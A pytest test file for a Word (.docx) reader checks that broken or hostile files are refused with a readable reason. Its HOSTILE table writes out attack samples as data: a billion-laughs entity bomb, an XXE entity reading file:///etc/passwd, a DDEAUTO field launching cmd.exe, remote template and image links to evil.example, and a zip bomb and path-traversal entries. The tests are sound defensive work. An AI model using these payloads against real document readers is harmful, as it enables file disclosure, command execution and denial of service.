"""Word files that are broken, or that do more than hold text, are refused with the reason, never with a fault."""

from __future__ import annotations

import io
import zipfile
from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from govtech.core import words
from govtech.core.errors import Invalid
from govtech.documents.blocks import Paragraph
from govtech.documents.docx_reader import read
from tests.documents.word_files import (
    SPACES,
    TYPE,
    TYPES,
    cell,
    numbered,
    numbering,
    p,
    r,
    relations,
    style,
    table,
    word,
)

CODE = '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
FETCHES = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def main_part(content: str, before: str = "") -> dict[str, str | bytes | None]:
    return {"word/document.xml": f"{before}<w:document {SPACES}><w:body>{content}</w:body></w:document>"}


def linked(kind: str, target: str) -> bytes:
    return word(p("本文"), links=(("x", kind, target),))


def typed(part: str) -> bytes:
    return word(p("本文"), replaced={"[Content_Types].xml": TYPES.replace(f"{TYPE}.document.main+xml", part)})


def bomb() -> bytes:
    return word(parts={"word/media/image1.bmp": b"\0" * 60_000_000})


def renamed(inside: str, kind: str = "") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", kind)
        archive.writestr(inside, "<x/>")
    return stream.getvalue()


def twice() -> bytes:
    """Two texts under one name: which one is read depends on who reads."""
    stream = io.BytesIO(word(p("一つ目")))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/document.xml", "<x/>")
    return stream.getvalue()


def field(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/></w:p>'


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DDE = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{CODE.format(" DDEAUTO c:/cmd.exe ")}</w:p>'
HOSTILE = {
    "zero bytes": (b"", "空のファイル"),
    "truncated": (word(p("本文"))[:-40], "壊れている"),
    "old .doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "古いWordの形式"),
    "encrypted": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "パスワード",
    ),
    "RTF": (b"{\\rtf1 text}", "RTF"),
    "HTML": (b"<html><body>text</body></html>", "HTML"),
    "PDF": (b"%PDF-1.7", "PDF"),
    "ODT": (renamed("content.xml", "application/vnd.oasis.opendocument.text"), "OpenDocument"),
    "workbook": (renamed("xl/workbook.xml"), "合いません"),
    "bomb": (bomb(), "大きくなりすぎ"),
    "large part": (word(replaced={"word/document.xml": "<a>" + "x " * 20_000_000 + "</a>"}), "大きくなりすぎ"),
    "macros": (word(parts={"word/vbaProject.bin": b"x"}), "マクロ"),
    "docm": (typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "マクロ"),
    "activeX": (word(parts={"word/activeX/activeX1.xml": "<x/>"}), "埋め込みの部品"),
    "OLE": (word(parts={"word/embeddings/oleObject1.bin": b"x"}), "埋め込みの部品"),
    "packed program": (
        word(parts={"word/embeddings/oleObject1.bin": OLE + "\1Ole10Native".encode("utf-16-le")}), "埋め込みの部品",
    ),
    "template": (linked("attachedTemplate", "https://evil.example/a.dotm"), "ひな形"),
    "template on a share": (linked("attachedTemplate", r"file:///\\evil\a.dotm"), "ひな形"),
    "template of the machine": (linked("attachedTemplate", "file:///etc/a.dotm"), "ひな形"),
    "remote picture": (linked("image", "https://evil.example/pixel.png"), "外部のファイル"),
    "remote object": (linked("oleObject", "https://evil.example/a"), "外部"),
    "remote frame": (linked("frame", "https://evil.example/a"), "外部"),
    "hidden mode": (
        word(
            parts={
                "word/_rels/settings.xml.rels": relations(("x", "attached&#84;emplate", "http://e.example/"))
            }
        ),
        "外部のひな形",
    ),
    "laughs": (word(replaced=main_part("<w:p><w:r><w:t>&c;</w:t></w:r></w:p>", LAUGHS)), "宣言"),
    "entity": (word(replaced=main_part("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", FETCHES)), "宣言"),
    "entity in UTF-16": (
        word(replaced={"word/document.xml": f"<?xml version='1.0' encoding='utf-16'?>{FETCHES}<a>&x;</a>".encode("utf-16")}),
        "宣言",
    ),
    "entity in relations": (word(replaced={"_rels/.rels": FETCHES + relations()}), "宣言"),
    "data exchange": (word(DDE), "DDEAUTO"),
    "macro by another name": (word(p("本文"), links=(("v", "vbaProject", "a.bin"),), parts={"word/a.bin": b"x"}), "マクロ"),
    "data exchange in a header": (
        word(
            p("本文"),
            links=(("h", "header", "h.xml"),),
            parts={"word/h.xml": f'<w:hdr {SPACES}><w:p><w:fldSimple w:instr="DDE a b"/></w:p></w:hdr>'},
        ),
        "DDE a b",
    ),
    "link to a share": (word(field(r'LINK Excel.Sheet.12 "\\\\s\\a.xlsx"')), "LINK"),
    "picture from the net": (word(field('INCLUDEPICTURE "http://e.example/a.png"')), "INCLUDEPICTURE"),
    "two texts by case": (word(p("一つ目"), parts={"Word/Document.xml": "<x/>"}), "壊れている"),
    "path": (word(parts={"word/../../etc/x.xml": "<x/>"}), "壊れている"),
    "absolute path": (word(parts={"/etc/x.xml": "<x/>"}), "壊れている"),
    "two texts": (twice(), "壊れている"),
    "no text": (word(replaced={"word/document.xml": None}), "本文がありません"),
    "other root": (word(replaced={"word/document.xml": "<x/>"}), "本文がありません"),
    "no XML": (word(replaced={"word/document.xml": "本文"}), "壊れている"),
    "cut XML": (word(replaced={"word/document.xml": f"<w:document {SPACES}><w:body>"}), "壊れている"),
    "broken styles": (word(replaced={"word/styles.xml": "<a>"}), "壊れている"),
    "deep elements": (word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000, packing=zipfile.ZIP_STORED), "壊れている"),
    "deep tables": (word("<w:tbl><w:tr><w:tc>" * 60 + p("底") + "</w:tc></w:tr></w:tbl>" * 60), "深すぎ"),
    "endless tables": (word("<w:tbl><w:tr><w:tc>" * 100_000, packing=zipfile.ZIP_STORED), "壊れている"),
    "endless paragraphs": (word("<w:p/>" * 120_000, packing=zipfile.ZIP_STORED), "大きくなりすぎ"),
    "wide table": (word(table(cell("甲") * 300), packing=zipfile.ZIP_STORED), "表が大きすぎます"),
    "large table": (word(table(cell("甲") * 200, *[cell("甲")] * 2000)), "表が大きすぎます"),
    "huge attribute": (word(f'<w:p w:a="{"x" * 12_000_000}"/>', packing=zipfile.ZIP_STORED), "壊れている"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_the_reason(name: str) -> None:
    data, reason = HOSTILE[name]
    with pytest.raises(Invalid) as caught:
        read(data)
    assert reason in caught.value.message


def test_the_reason_is_in_the_readers_language_and_names_the_file() -> None:
    with pytest.raises(Invalid, match=r"「仕様書\.docx」は古いWordの形式"):
        read(HOSTILE["old .doc"][0], "仕様書.docx")
    with words.use_locale("en"), pytest.raises(Invalid, match="old Word format"):
        read(HOSTILE["old .doc"][0])


def test_templates_on_the_authors_disk_and_data_of_other_programs_are_left_aside() -> None:
    template = r"file:///C:\Users\suita\Templates\shiyo.dotm"
    rows = relations(("x", "attachedTemplate", template))
    data = word(
        p("本文"),
        parts={"word/_rels/settings.xml.rels": rows, "word/embeddings/oleObject1.bin": OLE + b"Equation.3"},
    )
    imported = read(data)
    assert "本文" in str(imported.document.blocks)
    (told,) = imported.report
    assert template in told.what


def test_a_link_and_a_linked_range_of_ones_own_disk_do_no_harm() -> None:
    link = f'<w:p><w:hyperlink r:id="x">{r("窓口")}</w:hyperlink></w:p>'
    local = field(r'LINK Excel.Sheet.12 "C:\\Users\\a.xlsx" "R1C1"')
    found = read(word(link + local, links=(("x", "hyperlink", "https://e.example/"),)))
    (paragraph,) = found.document.blocks
    assert isinstance(paragraph, Paragraph)
    assert [(run.text, run.href) for run in paragraph.runs] == [("窓口", "https://e.example/")]
    assert found.report == ()


def test_names_with_backslashes_are_read() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word(p("本文")))) as source, zipfile.ZipFile(stream, "w") as archive:
        for name in source.namelist():
            archive.writestr(name.replace("/", "\\"), source.read(name))
    assert "本文" in str(read(stream.getvalue()).document.blocks)


def test_work_grows_with_the_file_and_no_faster() -> None:
    """What is told of a paragraph does not go through it again each time; the text of a number is short."""
    pictures = word(
        "<w:p>" + f"{r('文')}<w:r><w:drawing/></w:r>" * 20_000 + "</w:p>", packing=zipfile.ZIP_STORED
    )
    (told,) = read(pictures).report
    assert told.where == f"最初の見出しより前の段落「{'文' * 15}…」"
    numbers = numbering(1, ("decimal", "第" + "%1" * 20_000))
    counted = word(p("項", numbered(1)) * 2_000, numbering=numbers, packing=zipfile.ZIP_STORED)
    assert max(len(note.what) for note in read(counted).report) < 500_000


def test_links_templates_of_word_and_odd_numbers_do_no_harm() -> None:
    odd = (
        table(cell("x", '<w:gridSpan w:val="999999999"/>') + cell("y", "<w:vMerge/>"), grid=(0, -5))
        + p("項", numbered(1, 77))
        + p("項", '<w:numPr><w:ilvl w:val="-3"/><w:numId w:val="x"/></w:numPr>')
        + p("深い", '<w:outlineLvl w:val="99999999999"/>')
        + p("輪", '<w:pStyle w:val="A"/>')
        + '<w:p><w:r><w:fldChar w:fldCharType="end"/><w:fldChar/><w:sym/><w:br w:type=""/></w:r></w:p>'
    )
    loops = style("A", "a", based="B") + style("B", "b", based="A")
    data = word(odd, styles=loops, numbering=numbering(1, ("decimal", "%9%1.")))
    found = read(data).document
    assert "輪" in str(found.blocks)
    template = typed("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")
    assert "本文" in str(read(template).document.blocks)


@cache
def valid(compression: int) -> bytes:
    """A file with a little of everything, packed or plain so that changes reach the XML."""
    body = (
        p("見出し", '<w:pStyle w:val="1"/>')
        + table(cell("甲", '<w:gridSpan w:val="2"/>') + cell("乙"), cell("丙", '<w:vMerge w:val="restart"/>'))
        + p("項", numbered(1))
        + '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    )
    made = word(
        body,
        styles=style("1", "heading 1"),
        numbering=numbering(1, ("decimal", "%1.")),
        notes=f'<w:footnote w:id="2">{p("注")}</w:footnote>',
        links=(("h", "hyperlink", "https://e.example/"),),
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as source, zipfile.ZipFile(stream, "w", compression) as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    return stream.getvalue()


def _read_or_refused(data: bytes) -> bool:
    """Whether a file was read into a document, or refused in words; anything else is raised."""
    try:
        return isinstance(read(data).document.blocks, tuple)
    except Invalid as refusal:
        return bool(refusal.message.strip())


@settings(max_examples=300)
@given(
    st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED]),
    st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.binary(max_size=3)), min_size=1, max_size=4),
    st.floats(0, 1),
)
def test_changed_bytes_are_read_or_refused(
    compression: int, changes: list[tuple[float, bytes]], kept: float
) -> None:
    data = bytearray(valid(compression))
    for place, new in changes:
        at = int(place * len(data))
        data[at : at + len(new)] = new
    if kept < 0.1:
        del data[int(kept * 10 * len(data)) :]
    assert _read_or_refused(bytes(data))


@settings(max_examples=150)
@given(st.data())
def test_changed_xml_is_read_or_refused(data: st.DataObject) -> None:
    """Changes inside a part whose sums are right again: what a careful attacker would send."""
    with zipfile.ZipFile(io.BytesIO(valid(zipfile.ZIP_STORED))) as archive:
        parts: dict[str, str | bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    name = data.draw(st.sampled_from(sorted(parts)))
    content = bytes(parts[name] or b"")
    at = data.draw(st.integers(0, len(content)))
    new = data.draw(
        st.sampled_from([b"", b"<", b"/>", b'"', b"\xff", b"&", b"0", b"-", b"w:tbl", b"]]>", b"1e9"])
    )
    parts[name] = content[:at] + new + content[at + data.draw(st.integers(0, 12)) :]
    assert _read_or_refused(word(replaced=parts))
